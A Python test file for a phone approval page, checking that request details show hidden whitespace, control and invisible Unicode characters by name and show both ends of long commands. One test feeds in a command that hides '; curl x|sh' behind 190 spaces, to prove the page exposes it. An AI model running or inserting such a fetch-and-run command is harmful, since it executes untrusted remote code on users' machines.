"""What the phone's page shows of a request: all of it, under names that say what it is."""

import hashlib
import unittest

from phone_page_case import PhonePageCase

# As DisplayTextTests.whatIsNotSeenIsNamed has them: the page and the service name the same.
NAMED = [
    ("", "‹empty›"), (" ", "‹1 space›"), ("a b", "a b"), ("a  b", "a‹2 spaces›b"), (" a", "‹1 space›a"),
    ("a ", "a‹1 space›"), ("a   ", "a‹3 spaces›"), ("a\tb\n", "a‹tab›b‹newline›"),
    ("a\x1b[31m\x9b", "a‹U+001B›[31m‹U+009B›"), ("\x7f\u2028", "‹U+007F›‹U+2028›"),
    ("a\xadb\u034fc", "a‹U+00AD›b‹U+034F›c"), ("\u115f\u1160\u3164\uffa0", "‹U+115F›‹U+1160›‹U+3164›‹U+FFA0›"),
    ("\ufe0f\u180b\U000e0100", "‹U+FE0F›‹U+180B›‹U+E0100›"), ("\u200b\u200d\u2060", "‹U+200B›‹U+200D›‹U+2060›"),
    ("\u202e\u2066\u061c\u200f", "‹U+202E›‹U+2066›‹U+061C›‹U+200F›"), ("\U000e0041\ufeff", "‹U+E0041›‹U+FEFF›"),
    ("a\xa0b\u2003c\u3000d", "a‹U+00A0›b‹U+2003›c‹U+3000›d"), ("\u2800\U0001d159", "‹U+2800›‹U+1D159›"),
    ("\ufffd\ufff9\ue000\ufdd0\U0010ffff", "‹U+FFFD›‹U+FFF9›‹U+E000›‹U+FDD0›‹U+10FFFF›"),
    ("‹190 spaces›", "‹U+2039›190 spaces›"), ("é א 山田 🦀 \\u{202e}", "é א 山田 🦀 \\u{202e}"),
]  # fmt: skip

FACTS = """
  return [...document.querySelectorAll(".request dt")].map((term) => [term.textContent, term.nextElementSibling.textContent]);
"""

# Words of names that do not stand in one line.
BROKEN = """
  const broken = [];
  for (const term of document.querySelectorAll(".request dt")) {
    for (const node of term.childNodes) {
      for (const { 0: word, index } of node.textContent.matchAll(/[^\\s_.-]+/gu)) {
        const range = document.createRange();
        range.setStart(node, index);
        range.setEnd(node, index + word.length);
        if (new Set([...range.getClientRects()].map(({ top }) => top)).size > 1) broken.push(word);
      }
    }
  }
  return broken;
"""


class Words(PhonePageCase):
    def facts(self):
        self.card()
        return self.browser.script(FACTS)

    def test_spaces_push_no_part_of_a_command_out_of_sight(self):
        self.register()
        sign_in = self.world.sign_in(self.user, command="sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'")
        self.assertIn(["Command", "sh -c 'apt upgrade‹190 spaces›; curl x|sh'"], self.facts())
        # What is signed is the command as it came.
        self.assertEqual(self.approve(sign_in), "active")

    def test_what_would_not_be_seen_is_named(self):
        self.register()
        for start in range(0, len(NAMED), 6):
            some = NAMED[start : start + 6]
            sign_in = self.world.sign_in(self.user, **{f"k{index}": text for index, (text, _) in enumerate(some)})
            self.assertEqual(self.facts()[4:], [[f"“k{index}”", shown] for index, (_, shown) in enumerate(some)])
            self.assertEqual(self.approve(sign_in), "active")
            self.browser.misses(".request")

    def test_both_ends_of_a_long_command_are_shown_and_what_is_left_out_is_said(self):
        self.register()
        command = "begin " + "x" * 2000 + " end"
        sign_in = self.world.sign_in(self.user, command=command)
        facts = dict(self.facts())
        self.assertEqual(facts["Command’s beginning"], command[:500])
        self.assertEqual(facts["Command’s end"], command[-500:])
        self.assertEqual(facts["Command’s length"], "2010")
        self.assertEqual(facts["Command’s SHA-256"], hashlib.sha256(command.encode()).hexdigest())
        self.browser.says(".request", "its middle is left out")
        self.assertEqual(self.approve(sign_in), "active")

    def test_a_thousand_characters_are_shown_whole(self):
        self.register()
        self.world.sign_in(self.user, command="y" * 1000)
        self.assertIn(["Command", "y" * 1000], self.facts())
        self.assertNotIn("left out", self.browser.says(".request"))

    def test_a_transaction_is_not_called_a_sign_in_and_its_names_stay_whole(self):
        self.register()
        self.browser.resize("phone-320")
        self.addCleanup(self.browser.resize, "phone-390")
        names = {"beneficiary_account_of_the_payment": "DE02 1203 0000 0000 2020 51", "recipient": "Bob"}
        sign_in = self.world.sign_in(self.user, host="shop", service=None, user=None, tty=None, amount="20 EUR", **names)
        self.assertNotIn("sign-in", self.browser.says(".request", "Transaction on shop").lower())
        self.assertEqual(self.browser.says("#requests-title"), "Requests")
        self.assertNotIn("sign-in", self.browser.find("#announcement").get_attribute("textContent").lower())
        self.assertEqual(self.browser.script(BROKEN), [])
        self.assertEqual(self.approve(sign_in), "active")


if __name__ == "__main__":
    unittest.main()
